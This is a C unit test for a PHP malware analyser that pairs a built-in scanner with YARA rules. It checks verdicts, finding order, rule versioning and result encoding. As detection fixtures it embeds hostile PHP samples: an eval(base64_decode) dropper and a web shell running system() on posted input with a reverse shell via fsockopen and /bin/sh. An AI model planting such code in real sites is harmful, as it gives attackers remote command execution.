// SPDX-License-Identifier: GPL-2.0-or-later
/* The combined analyser on samples of the test's own: a dropper is
 * malicious by phpscan alone, benign code is clean, a YARA rule the test
 * writes adds its finding (named by the rule, its class, the line of its
 * match) and raises the verdict by its severity; findings come most
 * confident first. The rule-set version (the analysis cache's key) is the
 * same for the same rule sources wherever they live and changes with them.
 * The findings' text form (the cache) reads back as written; malformed text
 * is refused; the summary and the JSON say what the findings say. The size
 * cap ("not analysed") is the callers' (engine.c, ctlanalyse.c), not this
 * module's: not tested here. */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "analyse.h"
#include "fixture.h"
#include "json.h"
#include "jsonparse.h"
#include "t.h"
#include "util.h"

static struct fx fx;
static char rule_path[256];

static const char dropper[] = "<?php\n"
			      "// a tenant's 'cache' file\n"
			      "$p = $_POST['p'];\n"
			      "eval(base64_decode($p));\n";
static const char benign[] = "<?php\n"
			     "function add($a, $b)\n"
			     "{\n"
			     "\treturn $a + $b;\n"
			     "}\n"
			     "echo add(1, 2);\n";
/* benign to phpscan; the test's rule calls it weak */
static const char marked[] = "<?php\n"
			     "echo 'hello';\n"
			     "// WSID-TEST-MARK here\n";

static const char rules[] = "rule wsid_test_mark\n"
			    "{\n"
			    "    meta:\n"
			    "        class = \"test-mark\"\n"
			    "    strings:\n"
			    "        $m = \"WSID-TEST-MARK\"\n"
			    "    condition:\n"
			    "        $m\n"
			    "}\n"
			    "rule wsid_test_high\n"
			    "{\n"
			    "    meta:\n"
			    "        class = \"test-high\"\n"
			    "        severity = \"high\"\n"
			    "    strings:\n"
			    "        $h = \"WSID-TEST-HIGH\"\n"
			    "    condition:\n"
			    "        $h\n"
			    "}\n";

static int
run(struct analyse *a, const char *text, struct analyse_result *r)
{
	return analyse_buf(a, (const uint8_t *)text, strlen(text), "x.php", r);
}

/* the finding of r from rule (and class cls, NULL: any), or NULL */
static const struct analyse_finding *
finding(const struct analyse_result *r, const char *rule, const char *cls)
{
	unsigned i;

	for (i = 0; i < r->n; i++)
		if (strcmp(r->f[i].rule, rule) == 0 && (cls == NULL || strcmp(r->f[i].cls, cls) == 0))
			return &r->f[i];
	return NULL;
}

static bool
sorted(const struct analyse_result *r)
{
	unsigned i;

	for (i = 1; i < r->n; i++)
		if (r->f[i - 1].conf < r->f[i].conf)
			return false;
	return true;
}

static void
test_phpscan_alone(void)
{
	struct analyse *a = NULL;
	struct analyse_result r;
	const struct analyse_finding *f;
	char err[256] = "";

	T_EQ_INT(analyse_new(NULL, 0, &a, err, sizeof(err)), 0);
	if (a == NULL)
		return;
	T_EQ_INT(analyse_rule_files(a), 0);
	T_EQ_INT(strlen(analyse_rules_version(a)), ANALYSE_RULES_VERSION_LEN);
	T_EQ_INT(strspn(analyse_rules_version(a), "0123456789abcdef"), ANALYSE_RULES_VERSION_LEN);

	T_EQ_INT(run(a, dropper, &r), 0);
	T_EQ_INT(r.verdict, ANALYSE_MALICIOUS);
	T_EQ_STR(analyse_verdict_name(r.verdict), "malicious");
	f = finding(&r, "phpscan", "exec-of-input");
	T_OK(f != NULL);
	if (f) {
		T_EQ_INT(f->conf, 2);
		T_EQ_INT(f->line, 4);
		T_CHECK(strstr(f->excerpt, "eval(") != NULL, "%s", f->excerpt);
	}
	T_OK(r.n > 0 && r.f[0].conf == 2);
	T_OK(sorted(&r));

	T_EQ_INT(run(a, benign, &r), 0);
	T_EQ_INT(r.verdict, ANALYSE_CLEAN);
	T_EQ_INT(r.n, 0);
	T_EQ_INT(run(a, marked, &r), 0);
	T_EQ_INT(r.verdict, ANALYSE_CLEAN);
	/* nothing to read is clean; a NULL buffer with bytes is refused */
	T_EQ_INT(analyse_buf(a, NULL, 0, NULL, &r), 0);
	T_EQ_INT(r.verdict, ANALYSE_CLEAN);
	T_EQ_INT(analyse_buf(a, NULL, 4, NULL, &r), -EINVAL);
	T_EQ_INT(analyse_buf(NULL, (const uint8_t *)"x", 1, NULL, &r), -EINVAL);
	analyse_free(a);
}

static void
test_with_rules(void)
{
	const char *g[1] = { rule_path };
	struct analyse *a = NULL, *held;
	struct analyse_result r;
	const struct analyse_finding *f;
	char err[256] = "", both[256];

	T_EQ_INT(analyse_new(g, 1, &a, err, sizeof(err)), 0);
	if (a == NULL) {
		printf("# %s\n", err);
		return;
	}
	T_EQ_INT(analyse_rule_files(a), 1);
	/* a weak rule: suspicious, its finding on the line of its match */
	T_EQ_INT(run(a, marked, &r), 0);
	T_EQ_INT(r.verdict, ANALYSE_SUSPICIOUS);
	T_EQ_INT(r.n, 1);
	f = finding(&r, "wsid_test_mark", "test-mark");
	T_OK(f != NULL);
	if (f) {
		T_EQ_INT(f->conf, 1);
		T_EQ_INT(f->line, 3);
		T_CHECK(strncmp(f->excerpt, "WSID-TEST-MARK", 14) == 0, "%s", f->excerpt);
	}
	/* a high rule on benign PHP: malicious */
	snprintf(both, sizeof(both), "%s// WSID-TEST-HIGH\n// WSID-TEST-MARK\n", benign);
	T_EQ_INT(run(a, both, &r), 0);
	T_EQ_INT(r.verdict, ANALYSE_MALICIOUS);
	T_EQ_INT(r.n, 2);
	T_OK(r.n == 2 && strcmp(r.f[0].rule, "wsid_test_high") == 0 && r.f[0].line == 7 &&
	     strcmp(r.f[1].rule, "wsid_test_mark") == 0 && r.f[1].line == 8);
	/* both engines' findings in one result, most confident first */
	snprintf(both, sizeof(both), "%s// WSID-TEST-MARK\n", dropper);
	T_EQ_INT(run(a, both, &r), 0);
	T_EQ_INT(r.verdict, ANALYSE_MALICIOUS);
	T_OK(finding(&r, "phpscan", "exec-of-input") != NULL);
	T_OK(finding(&r, "wsid_test_mark", NULL) != NULL);
	T_OK(sorted(&r));
	T_OK(r.n > 0 && r.f[r.n - 1].conf <= 1);

	/* a reference held outlives the creator's */
	held = analyse_hold(a);
	T_OK(held == a);
	analyse_free(a);
	T_EQ_INT(run(held, marked, &r), 0);
	T_EQ_INT(r.verdict, ANALYSE_SUSPICIOUS);
	analyse_free(held);
}

static void
test_rules_version(void)
{
	const char *g[1] = { rule_path };
	char copy[256], other[256], err[256];
	const char *gc[1] = { copy }, *go[1] = { other };
	struct analyse *none = NULL, *a = NULL, *b = NULL, *c = NULL, *d = NULL;

	snprintf(copy, sizeof(copy), "%s/copy/rules.yar", fx.dir);
	snprintf(other, sizeof(other), "%s/other.yar", fx.dir);
	T_OK(fx_put_at(fx.dir, "copy/rules.yar", rules) == 0);
	T_OK(fx_put(other, "rule wsid_other { condition: false }\n") == 0);
	T_EQ_INT(analyse_new(NULL, 0, &none, err, sizeof(err)), 0);
	T_EQ_INT(analyse_new(g, 1, &a, err, sizeof(err)), 0);
	T_EQ_INT(analyse_new(gc, 1, &b, err, sizeof(err)), 0);
	T_EQ_INT(analyse_new(go, 1, &c, err, sizeof(err)), 0);
	T_EQ_INT(analyse_new(NULL, 0, &d, err, sizeof(err)), 0);
	if (none && a && b && c && d) {
		/* the same sources elsewhere: the same key */
		T_EQ_STR(analyse_rules_version(a), analyse_rules_version(b));
		T_EQ_STR(analyse_rules_version(none), analyse_rules_version(d));
		/* other sources, or none: another key */
		T_OK(strcmp(analyse_rules_version(a), analyse_rules_version(c)) != 0);
		T_OK(strcmp(analyse_rules_version(a), analyse_rules_version(none)) != 0);
	}
	analyse_free(none);
	analyse_free(a);
	analyse_free(b);
	analyse_free(c);
	analyse_free(d);

	/* a rule file that does not compile is named */
	T_OK(fx_put(other, "rule wsid_other { condition: $x }\n") == 0);
	a = NULL;
	T_OK(analyse_new(go, 1, &a, err, sizeof(err)) < 0);
	T_OK(a == NULL);
	T_CHECK(strstr(err, "other.yar:1:") != NULL, "%s", err);
}

static void
test_encode_decode(void)
{
	const char *g[1] = { rule_path };
	struct analyse *a = NULL;
	struct analyse_result r, back;
	char text[4096], small[40], err[256];
	size_t n;
	unsigned i;

	T_EQ_INT(analyse_new(g, 1, &a, err, sizeof(err)), 0);
	if (a == NULL)
		return;
	snprintf(text, sizeof(text), "%s// WSID-TEST-MARK\t\\ \x01\n", dropper);
	T_EQ_INT(run(a, text, &r), 0);
	analyse_free(a);
	T_OK(r.n >= 2);
	n = analyse_result_encode(&r, text, sizeof(text));
	T_EQ_INT(n, strlen(text));
	T_EQ_INT(analyse_result_decode(text, n, r.verdict, &back), 0);
	T_EQ_INT(back.verdict, r.verdict);
	T_EQ_INT(back.n, r.n);
	for (i = 0; i < r.n && i < back.n; i++) {
		T_EQ_STR(back.f[i].cls, r.f[i].cls);
		T_EQ_STR(back.f[i].rule, r.f[i].rule);
		T_EQ_INT(back.f[i].conf, r.f[i].conf);
		T_EQ_INT(back.f[i].line, r.f[i].line);
		T_EQ_STR(back.f[i].excerpt, r.f[i].excerpt);
	}
	/* what does not fit is left off whole */
	n = analyse_result_encode(&r, small, sizeof(small));
	T_EQ_INT(n, strlen(small));
	T_OK(n == 0 || small[n - 1] == '\n');
	T_EQ_INT(analyse_result_decode(small, n, r.verdict, &back), 0);
	T_OK(back.n < r.n);

	/* malformed */
	T_EQ_INT(analyse_result_decode("2\t1\t\tphpscan\tx\n", 15, ANALYSE_MALICIOUS, &back), -EINVAL);
	T_EQ_INT(analyse_result_decode("7\t1\tc\tphpscan\tx\n", 16, ANALYSE_MALICIOUS, &back), -EINVAL);
	T_EQ_INT(analyse_result_decode("", 0, ANALYSE_VERDICT_MAX, &back), -EINVAL);
	T_EQ_INT(analyse_result_decode("", 0, ANALYSE_CLEAN, &back), 0);
	T_EQ_INT(back.n, 0);
}

static void
test_summary_json(void)
{
	struct analyse_result r;
	char s[512];
	struct buf b;
	struct json j;
	struct jnode *root = NULL;
	const struct jnode *fs;
	char err[128];
	unsigned i;

	memset(&r, 0, sizeof(r));
	r.verdict = ANALYSE_MALICIOUS;
	for (i = 0; i < 5; i++) {
		snprintf(r.f[i].cls, sizeof(r.f[i].cls), "class-%u", i);
		snprintf(r.f[i].rule, sizeof(r.f[i].rule), "%s", i ? "rule_x" : "phpscan");
		r.f[i].conf = i == 0 ? 2 : i < 3 ? 1 : 0;
		r.f[i].line = 10 + i;
		snprintf(r.f[i].excerpt, sizeof(r.f[i].excerpt), "say \"%u\"", i);
	}
	r.n = 5;
	analyse_result_summary(&r, s, sizeof(s));
	T_EQ_STR(s, "class-0 (high, line 10: say \"0\"); class-1 (weak, line 11: say \"1\"); "
		    "class-2 (weak, line 12: say \"2\"); 2 more");
	/* cut short, never past the buffer */
	T_OK(analyse_result_summary(&r, s, 20) < 20);
	T_EQ_STR(analyse_conf_name(0), "note");

	buf_init(&b, 1 << 16);
	json_init(&j, &b);
	json_obj_begin(&j);
	analyse_findings_json(&j, &r);
	json_obj_end(&j);
	T_OK(b.data && jsonp_parse(b.data, b.len, &root, err, sizeof(err)) == 0);
	fs = root ? jsonp_get(root, "findings") : NULL;
	T_OK(fs && fs->t == J_ARR && fs->n == 5);
	if (fs && fs->n == 5) {
		const struct jnode *f = &fs->kids[3];

		T_EQ_STR(jsonp_get(f, "class")->s, "class-3");
		T_EQ_STR(jsonp_get(f, "confidence")->s, "note");
		T_EQ_STR(jsonp_get(f, "source")->s, "rule_x");
		T_EQ_STR(jsonp_get(f, "line")->s, "13");
		T_EQ_STR(jsonp_get(f, "excerpt")->s, "say \"3\"");
	}
	jsonp_free(root);
	buf_free(&b);
}

/* a content with more findings than a result holds: the weakest give way,
 * so a strong rule matching after many weak ones is still in the result */
static void
test_full_result(void)
{
	static const char shell[] =
		"<?php\n"
		"if (md5($_POST['pw']) == '5f4dcc3b5aa765d61d8327deb882cf99') { system($_POST['c']); }\n"
		"eval(base64_decode($_POST['e']));\n"
		"include($_FILES['u']['tmp_name']);\n"
		"move_uploaded_file($_FILES['u']['tmp_name'], $_POST['d']);\n"
		"file_put_contents(__FILE__, $_POST['s']);\n"
		"readfile($_GET['path']);\n"
		"mail($_POST['to'], $_POST['s'], $_POST['b']);\n"
		"$s = fsockopen($_POST['h'], 4444); proc_open('/bin/sh', array($s, $s, $s), $p);\n"
		"$z = str_rot13(gzinflate(base64_decode('AAAA')));\n";
	char path[256], err[256] = "";
	const char *g[1] = { path };
	struct buf rset, text;
	struct analyse *a = NULL;
	struct analyse_result r;
	unsigned i, nweak = 14, nps = 0;

	buf_init(&rset, 4096);
	buf_init(&text, 4096);
	buf_puts(&text, shell);
	for (i = 0; i < nweak; i++) {
		buf_printf(&rset, "rule wsid_test_w%02u { meta: class = \"weak-%02u\" strings: $m = \"WSID-W%02u\" condition: $m }\n",
			   i, i, i);
		buf_printf(&text, "// WSID-W%02u\n", i);
	}
	buf_puts(&rset, "rule wsid_test_z_high { meta: class = \"test-z-high\" severity = \"high\" "
			 "strings: $h = \"WSID-Z-HIGH\" condition: $h }\n");
	buf_puts(&text, "// WSID-Z-HIGH\n");
	snprintf(path, sizeof(path), "%s/rules/full.yar", fx.dir);
	T_OK(fx_put_at(fx.dir, "rules/full.yar", rset.data) == 0);
	T_EQ_INT(analyse_new(g, 1, &a, err, sizeof(err)), 0);
	if (a == NULL) {
		printf("# %s\n", err);
		goto out;
	}
	T_EQ_INT(run(a, text.data, &r), 0);
	for (i = 0; i < r.n; i++)
		nps += strcmp(r.f[i].rule, "phpscan") == 0;
	/* the premise: phpscan's findings and the rules' fill the result */
	T_CHECK(nps >= 8, "phpscan found %u", nps);
	T_EQ_INT(r.n, ANALYSE_FINDINGS_MAX);
	T_OK(finding(&r, "wsid_test_z_high", "test-z-high") != NULL);
	T_OK(sorted(&r));
	T_EQ_INT(r.verdict, ANALYSE_MALICIOUS);
	analyse_free(a);
out:
	buf_free(&rset);
	buf_free(&text);
}

int
main(void)
{
	if (fx_open(&fx, "analyse") < 0) {
		printf("not ok setup\n");
		return 1;
	}
	snprintf(rule_path, sizeof(rule_path), "%s/rules/test.yar", fx.dir);
	if (fx_put_at(fx.dir, "rules/test.yar", rules) < 0) {
		printf("not ok setup\n");
		return 1;
	}
	T_RUN(test_phpscan_alone);
	T_RUN(test_with_rules);
	T_RUN(test_rules_version);
	T_RUN(test_encode_decode);
	T_RUN(test_summary_json);
	T_RUN(test_full_result);
	fx_close(&fx);
	T_DONE();
}
